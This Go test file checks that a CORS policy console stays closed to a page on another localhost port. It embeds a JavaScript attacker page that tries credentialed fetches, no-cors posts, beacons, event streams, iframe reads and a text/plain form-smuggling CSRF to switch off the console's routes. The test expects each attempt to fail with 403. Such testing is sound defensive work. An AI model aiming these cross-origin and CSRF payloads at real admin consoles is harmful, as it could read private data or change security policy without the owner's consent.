package console

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/crossorigin/cors/internal/browser"
)

// attacker is a page of another port of the same host, to which the browser sends
// the cookie of the console along: ports are no sites. It tries to read the
// console, and to drive it.
const attacker = `
const report = {};
const note = async (what, trying) => {
  try {
    report[what] = 'got ' + await trying();
  } catch (error) {
    report[what] = 'nothing';
  }
};
const load = (name, fields) => new Promise((loaded, failed) => {
  const element = Object.assign(document.createElement(name), fields);
  element.onload = () => loaded(name);
  element.onerror = failed;
  document.body.append(element);
});
const within = (time, promise) => Promise.race([promise, new Promise((_, failed) => setTimeout(failed, time))]);
const post = { method: 'POST', headers: { 'Content-Type': 'text/plain' }, body: '{"text":"routes: {/: off}"}', credentials: 'include' };
await note('fetch', async () => (await fetch('CONSOLE/live/history', { credentials: 'include' })).text());
await note('fetch with the header', async () => (await fetch('CONSOLE/policy/apply', { ...post, headers: { 'X-Cors-Console': '1', 'Content-Type': 'application/json' } })).text());
await note('fetch without CORS', async () => (await fetch('CONSOLE/live/history', { mode: 'no-cors', credentials: 'include' })).type);
await note('fetch that posts without CORS', async () => (await fetch('CONSOLE/policy/apply', { mode: 'no-cors', ...post })).type);
await note('beacon', async () => { navigator.sendBeacon('CONSOLE/policy/apply', 'x'); throw 0; });
await note('events', () => within(2000, new Promise((got, failed) => {
  const source = new EventSource('CONSOLE/live/events', { withCredentials: true });
  source.onmessage = got;
  source.onopen = got;
  source.onerror = () => { source.close(); failed(); };
})));
await note('script', () => load('script', { src: 'CONSOLE/page/live.js', type: 'text/javascript' }));
await note('style', () => load('link', { href: 'CONSOLE/page/live.css', rel: 'stylesheet' }));
await note('image', () => load('img', { src: 'CONSOLE/page/icon.svg' }));
await note('frame', async () => {
  await within(2000, load('iframe', { src: 'CONSOLE/live' }));
  return document.querySelector('iframe').contentDocument.body.innerText;
});
await note('form', async () => {
  const frame = document.createElement('iframe');
  frame.name = 'target';
  const form = Object.assign(document.createElement('form'), { action: 'CONSOLE/policy/apply', method: 'post', enctype: 'text/plain', target: 'target' });
  form.append(Object.assign(document.createElement('input'), { name: '{"text":"routes: {/: off}","x":"', value: '"}' }));
  document.body.append(frame, form);
  form.submit();
  await within(2000, new Promise(loaded => { frame.onload = loaded; }));
  return frame.contentDocument.body.innerText;
});
await fetch('/report', { method: 'POST', body: JSON.stringify(report) });
`

func TestAPageOfAnotherPortGetsNothingInAnyBrowser(t *testing.T) {
	for _, name := range browser.All {
		t.Run(string(name), func(t *testing.T) {
			if err := browser.Available(name); err != nil {
				t.Skip(err)
			}
			t.Parallel()
			got, asked := attack(t, name)
			want := map[string]string{}
			for _, what := range []string{"fetch", "fetch with the header", "fetch without CORS", "fetch that posts without CORS", "beacon", "events", "script", "style", "image", "frame", "form"} {
				want[what] = "nothing"
			}
			if diff := cmp.Diff(want, got); diff != "" {
				t.Errorf("what it got, -want +got:\n%s", diff)
			}
			for _, a := range asked {
				if !strings.HasSuffix(a, " 403") {
					t.Errorf("it asked %s", a)
				}
			}
			for _, a := range []string{"POST /policy/apply 403", "GET /live/history 403", "GET /live/events 403", "GET /page/live.js 403"} {
				if !slices.Contains(asked, a) {
					t.Errorf("%s never arrived, among %q", a, asked)
				}
			}
		})
	}
}

// attack lets a browser in, and then to a page that attacks the console. It
// returns what that page got, and what it asked the console, each with a cookie.
func attack(t *testing.T, name browser.Name) (got map[string]string, asked []string) {
	ctx, cancel := context.WithTimeout(t.Context(), 3*time.Minute)
	defer cancel()
	l := listenLoopback(t)
	address := strings.Replace(l.Addr().String(), "127.0.0.1", "localhost", 1)
	c, err := New(Options{
		Address: address,
		Gateway: "http://localhost:1", // or there would be no decisions to look at
		Policy:  policyOfTest,
		Apply: func(_, _ []byte) error {
			t.Error("the attacker changes the policy")
			return nil
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	reports := make(chan map[string]string, 1)
	mux := http.NewServeMux()
	evil := httptest.NewServer(mux)
	defer evil.Close()
	there := strings.Replace(evil.URL, "127.0.0.1", "localhost", 1)
	mux.HandleFunc("GET /{$}", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, "<!doctype html><title>page</title><body><script type=module>%s</script>", strings.ReplaceAll(attacker, "CONSOLE", c.Origin()))
	})
	// The visitor comes by a link on a page of another site, as in a terminal that
	// is a page.
	mux.HandleFunc("GET /link", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, "<!doctype html><title>page</title><script>location.href = %q</script>", c.URL())
	})
	mux.HandleFunc("POST /report", func(_ http.ResponseWriter, r *http.Request) {
		var report map[string]string
		if err := json.NewDecoder(r.Body).Decode(&report); err != nil {
			t.Error(err)
		}
		reports <- report
	})

	own := c.handler
	var mu sync.Mutex
	attacked := false
	c.handler = http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		switch {
		case attacked:
			seen := httptest.NewRecorder()
			own.ServeHTTP(seen, r.WithContext(ctx))
			if _, err := r.Cookie(c.cookieName("token")); err == nil {
				asked = append(asked, fmt.Sprintf("%s %s %d", r.Method, r.URL.Path, seen.Code))
			}
			for name, values := range seen.Header() {
				w.Header()[name] = values
			}
			w.WriteHeader(seen.Code)
			w.Write(seen.Body.Bytes())
		case r.URL.Path == "/away.js":
			w.Header().Set("Content-Type", "text/javascript")
			fmt.Fprintf(w, "location.href = %q;", there)
			attacked = true
		case r.URL.Path == "/live" && c.hasCookie(r):
			w.Header().Set("Content-Type", "text/html")
			io.WriteString(w, `<!doctype html><title>page</title><script src="/away.js"></script>`)
		default:
			own.ServeHTTP(w, r)
		}
	})
	go c.Serve(ctx, l)
	p, err := browser.Start(ctx, name, evil.URL+"/link")
	if err != nil {
		t.Fatal(err)
	}
	defer p.Close()
	select {
	case got = <-reports:
	case <-ctx.Done():
		t.Fatal("the page reported nothing")
	}
	mu.Lock()
	defer mu.Unlock()
	return got, asked
}
